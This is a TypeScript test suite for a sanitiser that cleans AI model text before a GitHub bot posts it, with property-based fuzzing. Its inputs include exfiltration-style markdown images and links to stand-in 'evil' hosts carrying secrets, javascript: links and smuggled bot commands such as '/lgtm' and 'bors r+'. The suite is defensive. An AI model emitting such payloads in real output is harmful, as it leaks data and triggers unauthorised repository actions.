import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { cleanOutbound, MAX_OUTBOUND } from '../../../src/core/untrusted.ts'

const repoUrl = 'https://github.com/acme/tool'
const clean = (text: string): string => cleanOutbound(text, { repoUrl })

describe('model text on its way out', () => {
  it.each([
    ['![x](https://evil/?q=SECRET)', 'image: x'],
    ['![x][r]\n\n[r]: https://evil/a?q=1', '[image: x]\\[r]\n\n[r]\\: `https://evil/a?q=1`'],
    ['<img src="https://evil/x">', '&lt;img src="`https://evil/x`">'],
    ['see https://evil.com/a?d=1.', 'see `https://evil.com/a?d=1`.'],
    ['www.evil.com', '`www.evil.com`'],
    ['[words](https://github.com/evil/x?d=1)', 'words'],
    ['[w](https://github.com/acme/tool-evil/x)', 'w'],
    ['[w](https://github.com@evil.com/acme/tool/x)', 'w'],
    ['[w](/evil/x) [v](javascript:alert)', 'w v'],
    [`[w](${repoUrl}/blob/main/a.ts?x=1#L3)`, `[w](${repoUrl}/blob/main/a.ts#L3)`],
    [`at ${repoUrl}/blob/main/a.ts?x=1.`, `at <${repoUrl}/blob/main/a.ts>.`],
    ['hi @user, @org/team and a@b.com', 'hi `@user`, `@org/team` and `a@b.com`'],
    ['\\@user', '\\\\`@user`'],
    ['[@](http://e)user', '`@user`'],
    ['&#64;user and &commat;user', '&`#64`;user and &amp;commat;user'],
    ['@dependabot merge', '`@dependabot merge`'],
    ['/lgtm', '`/lgtm`'],
    ['- /approve no-issue', '- `/approve` no-issue'],
    ['/mill approve', '`/mill` approve'],
    ['bors r+', '`bors r+`'],
    ['Fixes #1, closes o/r#2, fix GH-3', 'Fixes: `#1`, closes: `o/r#2`, fix: `GH-3`'],
    [`resolves ${repoUrl}/issues/3`, `resolves: \`${repoUrl}/issues/3\``],
    ['<!-- millwright:state v1 x -->', '&lt;! -- millwright:state v1 x -->'],
    ['**bold** _it_, a < b && c', '**bold** _it_, a &lt; b && c'],
    ['a `@user #1` b', 'a `@user #1` b'],
    ['| `x | @user` |', '| `x \\| @user` |'],
    ['a ` b', "a ' b"],
  ])('%j is posted as %j', (text, posted) => {
    expect(clean(text)).toBe(posted)
  })

  it('keeps code blocks as code, moves them to the first column and closes them', () => {
    expect(clean('1. so:\n   ```js\n   // @user <b>\n   x\n   ```\n2. on')).toBe(
      '1. so:\n\n```js\n// @user <b>\nx\n```\n\n2. on',
    )
    expect(clean('~~~\na ``` b')).toBe('````\na ``` b\n````')
  })

  it('lets no command begin a line of a code block, and no marker stand in one', () => {
    expect(
      clean('```\n/lgtm\n@dependabot merge\nbors r+\n@Component\n/usr/bin/env\n<!-- millwright\n```'),
    ).toBe('```\n\\/lgtm\n\\@dependabot merge\n\\bors r+\n@Component\n/usr/bin/env\n<! -- millwright\n```')
  })

  it('shows languages that GitHub would render or apply as plain text', () => {
    expect(clean('```mermaid\nx\n```')).toBe('```\nx\n```')
    expect(clean('```suggestion\nx\n```')).toBe('```\nx\n```')
  })

  it('says how much was cut, within the bound, with code closed', () => {
    const cut = cleanOutbound(`start\n\`\`\`js\n${'@x <y>\n'.repeat(5000)}`, { repoUrl, max: 1000 })
    expect(cut.length).toBeLessThanOrEqual(1000)
    expect(cut).toMatch(/\n```\n\n… \(3\d{4} characters left out\)$/)
    expect(cleanOutbound('<'.repeat(50_000), { repoUrl }).length).toBeLessThanOrEqual(MAX_OUTBOUND)
  })

  it('takes no more than a moment on text made to be slow', () => {
    const start = performance.now()
    for (const piece of ['a/', '.', '\t', '-', '!', 'a+b:', '[a](b', '```\n', '@', '# ', 'fix:', '`` ', ' '])
      clean(piece.repeat(Math.floor(60_000 / piece.length)))
    expect(performance.now() - start).toBeLessThan(6000)
  })
})

const piece = fc.constantFrom(
  '![',
  ']',
  '(',
  ')',
  '[',
  '](',
  'https://evil.com/x',
  'www.evil.com',
  `${repoUrl}/blob/a`,
  repoUrl,
  'http://',
  '@user',
  '@',
  'user',
  '#1',
  '#',
  '1',
  'GH-',
  'gh-1',
  '<img src=x>',
  '<',
  '>',
  '<!--',
  '-->',
  'millwright',
  '`',
  '``',
  '```',
  '~~~',
  '\n',
  '\n\n',
  '  ',
  '    ',
  '- ',
  '> ',
  '1. ',
  '|',
  '|---|---|\n',
  '\\',
  '&#64;',
  '&',
  '/lgtm',
  '/mill x',
  'bors r+',
  'Fixes ',
  'a@b.co',
  '_',
  '*',
  '~',
  '!',
  '[r]: ',
  '[^1]',
  ' ',
  '.',
  ':',
  '?',
  '"',
  "'",
  'mailto:',
  '}',
  '$',
  '\t',
  '\u200B',
)
const markdown = fc.array(piece, { maxLength: 24 }).map((parts) => parts.join(''))

/** What is left outside code: blocks are at the first column, spans within one line, by construction of the output. */
function outsideCode(posted: string): string {
  return posted
    .replaceAll(/^(`{3,})[^`\n]*\n[\s\S]*?^\1$/gm, '')
    .replaceAll(/(?<!`)(`+)(?!`)[^\n]*?[^`\n]\1(?!`)/g, '█')
}

describe('cleanOutbound on any text', () => {
  it('yields no image, foreign link, HTML, mention, reference or command that works', () => {
    fc.assert(
      fc.property(markdown, (text) => {
        const posted = clean(text)
        const prose = outsideCode(posted)
        const links = [...prose.matchAll(/\]\(([^)]*)\)|<(https:[^>]*)>/g)].map((m) => m[1] ?? m[2] ?? '')
        for (const link of links) expect(link).toMatch(/^https:\/\/github\.com\/acme\/tool(?:[/#]|$)[^?]*$/)
        const rest = prose.replaceAll(/\]\([^)]*\)|<https:[^>]*>/g, '█')
        expect(rest).not.toMatch(
          /!\[|<[a-z!/]|@\w|#\d|\bgh-\d|:\/\/\w|(?<![a-z0-9])www\.\w|^\s*\[[^\]]*\]:|`/im,
        )
        expect(posted).not.toMatch(
          /<!--\s*millwright|^\s*\/(?:lgtm|mill)\b(?!\/)|^\s*bors r\+|[\u200B-\u200D\u2060\uFEFF]/im,
        )
      }),
      { numRuns: 3000 },
    )
  })
})
